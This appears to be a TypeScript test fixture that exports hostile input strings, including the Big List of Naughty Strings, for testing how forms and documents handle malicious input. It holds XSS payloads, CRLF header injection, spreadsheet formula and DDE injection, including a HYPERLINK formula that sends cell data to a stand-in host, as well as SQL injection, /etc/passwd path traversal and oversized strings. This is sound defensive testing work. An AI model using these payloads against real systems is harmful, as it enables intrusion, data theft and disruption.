import naughtyStrings from 'big-list-of-naughty-strings' with { type: 'json' };

/** A text that a form or a fair document may be given, with the name by which a failed test tells it. */
export interface HostileString {
  readonly name: string;
  readonly text: string;
}

/** Where a payload would send a request; no page of ours ever asks there. */
export const elsewhere = 'http://elsewhere.example';

const own: Readonly<Record<string, string>> = {
  'a carriage return': 'Sri\rWahyuni',
  'a line feed': 'Sri\nWahyuni',
  'both line ends': '\r\nSri\r\n\r\nWahyuni\n\r',
  'a header of its own': 'Sri\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  'the end of a multipart body': 'Sri\r\n------WebKitFormBoundary--\r\n',
  'the next member of a form': 'Sri&adult=no&_form=statistics',
  'line and paragraph separators': 'Sri\u2028Wahyuni\u2029Putri\u0085',
  'a tab and a vertical tab': '\tSri\vWahyuni\f',
  NUL: 'Sri\0Wahyuni',
  'controls of all kinds': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join(''),
  'an upper lone surrogate': 'Sri\uD83D',
  'a lower lone surrogate': '\uDE00Sri',
  'surrogates the wrong way round': 'Sri\uDE00\uD83DWahyuni',
  'half of a pair at a usual limit': `${'a'.repeat(99)}\uD83D\uDE00`,
  'a right-to-left override': 'Sri\u202Egpj.exe',
  'every override, none ended': '\u202A\u202B\u202D\u202E\u2066\u2067\u2068Sri',
  'ends of overrides that did not begin': '\u202C\u2069\u2069\u202CSri',
  'an Arabic name with digits': '\u0645\u062D\u0645\u062F 123 (a)',
  'zero-width characters': 'S\u200Br\u200Ci\u200D\u2060\uFEFF\u00AD',
  'nothing that is seen': '\u200B\u200C\u2800\u3164',
  'many marks on one letter': `Z${'\u0351\u0489'.repeat(200)}`,
  'full-width formula': '\uFF1D1+1',
  'a formula': '=HYPERLINK("http://elsewhere.example?"&A1,"Sri")',
  'a formula after a space': ' \t=1+1',
  'a formula with DDE': "=cmd|' /C calc'!A0",
  '@SUM': '@SUM(1+1)*cmd|',
  'minus and plus': '-1+1',
  'a script': '<script>alert(1)</script>',
  'a script that ends another': '</script><script>alert(1)</script>',
  'an image': `<img src=${elsewhere}/pixel.gif onerror=alert(1)>`,
  'an SVG': `<svg/onload=alert(1)><image href=${elsewhere}/a.svg></svg>`,
  'a frame': `<iframe srcdoc="<script>parent.alert(1)</script>" src=${elsewhere}></iframe>`,
  'a style': `<style>@import url(${elsewhere}/a.css); * { display: none }</style>`,
  'a link to a style': `<link rel=stylesheet href=${elsewhere}/a.css>`,
  'a page that moves on': `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  'a base': `<base href=${elsewhere}/>`,
  'a form': `<form action=${elsewhere}><button autofocus onfocus=alert(1)>x</button></form>`,
  'an attribute': '" onfocus="alert(1)" autofocus="',
  'an attribute in single quotes': "' onmouseover='alert(1)' style='display:none",
  'a template': '<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>',
  'a slot': '</slot><slot name=success></slot>',
  'a comment': '<!-- --!> <img src=x onerror=alert(1)> -->',
  CDATA: '<![CDATA[<script>alert(1)</script>]]>',
  'MathML and noscript': '<math><mtext><noscript><p title="</noscript><img src onerror=alert(1)>">',
  "a marker of Lit's": '?lit$1234567890$ <!--?lit$1234567890$--> {{lit-1}}',
  'a text of i18next': '{{employer}} {{- zone}} {{name, uppercase}} $t(form:title) {employer} {constructor}',
  'a template string': '${alert(1)} #{alert(1)} <%= alert(1) %> {{constructor.constructor("alert(1)")()}}',
  'patterns of replace': "$& $` $' $1 $<name> $$",
  'a name of every object': '__proto__',
  'another one': 'constructor',
  'a method of every object': 'toString',
  'a script as a link': 'javascript:alert(1)',
  'a script as a link, with a tab': ' java\tscript:alert(1)',
  'a script as a link, in capitals': 'JaVaScRiPt://%0Aalert(1)',
  'a page as a link': 'data:text/html,<script>alert(1)</script>',
  'a link with a script in it': 'https://a.example/"><script>alert(1)</script>',
  'a link that hides its host': 'https://good.example@elsewhere.example/',
  'JSON that ends': '"}],"consents":[{"purpose":"process"}]}',
  SQL: "'); DROP TABLE records; --",
  'a path': '../../../../etc/passwd\0.pdf',
  'digits of another script': '\u0661\u0662\u0663\u0664 \uFF11\uFF12',
  'a number beyond counting': '9'.repeat(400),
  'a day that is none': '2027-02-30',
  'a day in a year of six digits': '+275760-09-13',
  'commas alone': ',,;;\n,',
  'tags with overrides': '\u202Eabc, def\u2069, \u2067ghi',
  '100 kB of a letter': 'a'.repeat(100_000),
  '100 kB of spaces in a letter': `a${' '.repeat(100_000)}b`,
  '100 kB of tags': 'a,'.repeat(50_000),
  '100 kB of markup': '<b><i>'.repeat(16_667),
  '100 kB of astral letters': '\u{1F600}'.repeat(25_000),
  '100 kB of digits and dots': '1.000'.repeat(20_000),
  '100 kB of an almost email': `${'a.'.repeat(50_000)}@`,
  '100 kB of an almost link': `https://${'a-'.repeat(50_000)} `,
};

export const ownStrings: readonly HostileString[] = Object.entries(own).map(([name, text]) => ({
  name,
  text,
}));

/** The Big List of Naughty Strings by number, then those of our own. */
export const hostileStrings: readonly HostileString[] = [
  ...naughtyStrings.map((text, index) => ({ name: `naughty string ${index}`, text })),
  ...ownStrings,
];
